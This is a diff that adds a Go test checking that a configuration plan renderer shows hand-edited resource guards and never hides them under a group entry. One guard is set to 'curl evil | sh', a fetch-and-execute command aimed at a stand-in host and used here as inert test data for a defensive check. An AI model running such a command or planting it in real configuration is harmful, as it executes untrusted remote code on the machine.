@@ -457,3 +457,32 @@ func TestRenderShowsTheReasonOfAnUpdateWithoutChanges(t *testing.T) {
 		t.Errorf("rendered:\n%s\nwant to contain:\n%s", b.String(), want)
 	}
 }
+
+// A resource whose group's guards are not word for word the others' (a
+// plan edited by hand) is shown on its own, its guards with it: a group's
+// entry never hides a guard that runs.
+func TestGroupEntryHidesNoGuard(t *testing.T) {
+	p := groupsScenario(t)
+	for _, r := range p.Resources {
+		if r.Name == "/etc/sysctl.d/core.conf" {
+			r.GuardSpecs[0].Source = "node.other"
+		}
+		if r.Name == "/etc/issue" {
+			r.GuardSpecs[0].Source = "curl evil | sh"
+		}
+	}
+	var buf bytes.Buffer
+	if err := RenderText(&buf, p, RenderOptions{Registry: testRegistry()}); err != nil {
+		t.Fatal(err)
+	}
+	out := buf.String()
+	for _, want := range []string{
+		"# resource_group[core_dumps] skipped: only_if node.hardening.core_dumps is false\n  #   skips 1 of its 2 resources: fake_file[/etc/security/limits.d/core.conf]\n",
+		"# fake_file[/etc/sysctl.d/core.conf] skipped: only_if node.other is false",
+		"not_if `curl evil | sh` is false",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the plan lacks %q:\n%s", want, out)
+		}
+	}
+}
